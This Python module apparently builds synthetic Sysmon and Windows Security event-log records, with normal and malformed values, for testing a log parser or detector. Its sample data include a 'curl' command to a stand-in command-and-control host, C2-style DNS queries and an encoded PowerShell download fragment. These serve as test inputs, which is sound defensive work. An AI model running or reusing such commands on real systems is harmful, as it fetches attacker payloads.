"""Events of the frequent kinds, with usual and odd data."""

from __future__ import annotations

import random
import struct
from collections.abc import Callable
from dataclasses import replace

from bench.evtx_builder import (
    BOOL,
    FILETIME,
    FIRST_TIME,
    GUID,
    HEX64,
    SID,
    UINT16,
    UINT32,
    Record,
    strings,
    template_chunk,
    text,
)

SECURITY = "Microsoft-Windows-Security-Auditing"


def connection(initiated: bool, source: str = "192.168.56.1", port: int = 52543, **more: str) -> Record:
    ends = strings(SourceIp=source, DestinationIp="192.168.56.101", DestinationPort="3389", **more)
    flag = ("Initiated", BOOL, initiated.to_bytes(4, "little"))
    return Record(3, [flag, ("SourcePort", UINT16, port.to_bytes(2, "little")), *ends])


def filtered(number: int, port: str, source: str = "10.0.2.17") -> Record:
    """Build an event of the filtering platform, whose ports are texts."""
    data = strings(Application="\\device\\a.exe", Direction="%%14593", SourceAddress=source, SourcePort=port,
                   DestAddress="203.0.113.9", DestPort="443", Protocol="6")  # fmt: skip
    return Record(number, data, SECURITY, "Security")


ENDS = ["10.1.1.5", "0.0.0.0", "::", "192.0.2.7", "2001:db8::7", "", "-", "\ud800", "::ffff:192.0.2.8"]


def some_connection(chance: random.Random, user: str) -> Record:
    """Build a connection or packet whose ends have any spelling, also invalid ones."""
    source, far = chance.choice(ENDS), chance.choice(ENDS)
    if chance.random() < 0.5:
        ends = strings(
            SourceAddress=source,
            DestAddress=far,
            SourcePort="5",
            DestPort="443",
            Direction=chance.choice(["%%14592", "%%14593"]),
        )
        return Record(chance.randrange(5150, 5160), ends, SECURITY, "Security")
    name = chance.choice(["", "-", "www.bad.example", "A.B"])
    flag = ("Initiated", BOOL, chance.randrange(2).to_bytes(4, "little"))
    ends = strings(SourceIp=source, DestinationIp=far, DestinationHostname=name, User=user)
    ports = strings(SourcePort=chance.choice(["5", "50000"]), DestinationPort="3389")
    other = chance.random() < 0.3
    return Record(3, [flag, *ends, *ports], *(["Other", "Other/Operational"] if other else []))


def some_digests(chance: random.Random) -> str:
    """Build digests as Sysmon writes them, or other text in their place."""
    md5, sha1, sha256 = (chance.randbytes(size).hex() for size in (16, 20, 32))
    return chance.choice(
        [
            f"SHA1={sha1.upper()},MD5={md5.upper()},SHA256={sha256.upper()},IMPHASH={md5.upper()}",
            f"SHA1={sha1.upper()},MD5={md5.upper()},SHA256={sha256.upper()},IMPHASH={'0' * 32}",
            f"MD5={md5},SHA256={sha256}",
            f"MD5={'0' * 32},SHA256={sha256}",
            f"MD5={md5[:-1]}g,SHA256={sha256}",
            f"MD5={md5}ab,SHA256={sha256}",
            f"MD5={md5},MD5={md5[::-1]}",
            f"MD5={md5},SHA256={sha256[:-1]}ể",
            f"MD5={md5},SHA256=\0{sha256[:-1]}",
            f"SHA1={sha1},XXX={md5},SHA256={sha256}a",
            *(md5, "", "-"),
        ]
    )


CAME_FROM = ["192.0.2.7", "198.51.100.9", "-", "10.1.1.9", "10.1.1.10", "172.31.0.1", "172.32.0.1",
             "127.0.0.1", "0.0.0.0", "224.0.0.5", "10.1.1.255", "010.1.1.9", "::ffff:10.1.1.9", "fe80::1", "",
             "10.1.1.9\0", "ể", "\ud800", "192.0.2.7:5"]  # fmt: skip
PORTS = ["0", "443", "", "no", "65536", "00443", "000443", " 5", "5\0", "٣"]
QUERIES = ["bot-c2.xyz", "c2.bad.example", "n/a", "x." + "y" * 64 + ".example", "z" * 63 + ".example", "",
           "-", "a b", "WWW.Unit.Example.", "\ud800", ".", "x" * 300]  # fmt: skip
ANSWERS = [
    "::ffff:192.0.2.1;",
    "::ffff:192.0.2.01;",
    "::ffff:192.0.2.1",
    "::ffff:192.0.2.2;::ffff:192.0.2.2;",
    "type:  5 cdn.bad.example;192.0.2.9;192.0.2.9;",
    "",
    "-",
    "\ud800",
]
ENCODED = "SQBFAFgAIABoAHQAdABwADoALwAvAGEA"
COMMANDS = ["cmd /c a.exe -q", "a.exe.", "x.exe-y.example", "a.dll/b.bad.example", "-e", f"/enc {ENCODED}",
            "A.EXE", "http://srv", "ping 10.1.2.3", "a.ps1\u2028-e", "run -x 5", "b", "ping 192.0.2.4", "",
            "curl http://c2.bad.example/a", "-enc", "\ud800", "a.exe", ENCODED]  # fmt: skip


def sysmon_records(chance: random.Random, user: str) -> list[Callable[[], Record]]:
    """Return builders of Sysmon's frequent events."""
    head = [("UtcTime", *text("2026-06-10 16:00:00.123")), ("ProcessGuid", GUID, chance.randbytes(16)),
            ("ProcessId", UINT32, chance.randbytes(4))]  # fmt: skip
    digests, query = some_digests(chance), chance.choice(QUERIES)
    parent = chance.choice(["", ENCODED, "c.example.net"])
    more = chance.choice([{"DnsServerIpAddress": "192.0.2.53"}, {"Query": "other.example"}, {}])
    answered, ran = chance.choice(ANSWERS), chance.choice(COMMANDS)
    source = chance.choice(["10.1.1.5", "::1", "fe80::1"])
    return [
        lambda: some_connection(chance, user),
        lambda: connection(chance.random() < 0.5, source, chance.randrange(65536), User=user),
        lambda: Record(1, strings(CommandLine=ran, ParentCommandLine=parent, User=user)),
        lambda: Record(
            1, [*head, *strings(CommandLine="curl http://c2.bad.example/a", Hashes=digests, User=user)]
        ),
        lambda: Record(7, [*head, *strings(ImageLoaded="C:\\a.dll", Hashes=digests, User=user)]),
        lambda: Record(13, [*head, *strings(TargetObject="HKLM\\a", Details="http://203.0.113.7/b")]),
        lambda: Record(22, strings(QueryName=query, QueryResults=answered, User=user)),
        lambda: Record(22, strings(QueryName=query, User=user, **more)),
        lambda: Record(
            22, [*head, *strings(QueryName="bot-c2.xyz", QueryResults="::ffff:192.0.2.1;", User=user)]
        ),
    ]


def windows_records(chance: random.Random, user: str) -> list[Callable[[], Record]]:
    """Return builders of frequent events of Windows and of any program."""
    query, answered = chance.choice(QUERIES), chance.choice(ANSWERS)
    ports = chance.choice([*PORTS, str(chance.randrange(65536))])
    came_from = chance.choice(CAME_FROM)
    identity = [
        ("SubjectUserSid", SID, bytes.fromhex("010100000000000512000000")),
        ("LogonId", HEX64, chance.randbytes(8)),
    ]
    log_on = strings(TargetUserName=user, IpAddress=came_from, IpPort=ports, WorkstationName="PC-17")
    at = [("UtcTime", *text("2026-06-10 16:00:00.123")), ("At", FILETIME, struct.pack("<Q", FIRST_TIME))]
    url = "http://x.bad.example/"
    other = "Other/Operational"
    return [
        lambda: Record(
            3008,
            strings(QueryName=query, QueryResults=answered),
            "Microsoft-Windows-DNS-Client",
            "DNS-Client",
        ),
        lambda: filtered(chance.choice([5156, 5157, 5158]), ports),
        lambda: Record(4624, [*identity, *log_on], SECURITY, "Security"),
        lambda: Record(900, [*at, *strings(Text=f"see {url}")], "Other", "Application"),
        lambda: Record(901, strings(a="1", b=url), "Other", "Application", unnamed=True),
        lambda: Record(902, strings(url=url), "Other", other, inner="UserData"),
        lambda: Record(903, strings(url=url, Ip="192.0.2.1"), "Other", other, optional=True),
    ]


def some_record(chance: random.Random) -> Record:
    """Build an event of one of the frequent kinds."""
    user = chance.choice(["UNIT\\an", "NT AUTHORITY\\SYSTEM", "", "PC-17$", "Đặng Ân", 'a"b'])
    make = chance.choice([*sysmon_records(chance, user), *windows_records(chance, user)])
    return replace(
        make(),
        computer=chance.choice(["PC-AN", "PC-MINH", "PC-Ân", 'PC"1']),
        literal=chance.random() < 0.5,
        time=FIRST_TIME + chance.randrange(10**10),
    )


def some_records(chance: random.Random, count: int = 40) -> bytes:
    """Build a chunk of such events."""
    return template_chunk([some_record(chance) for _ in range(count)])
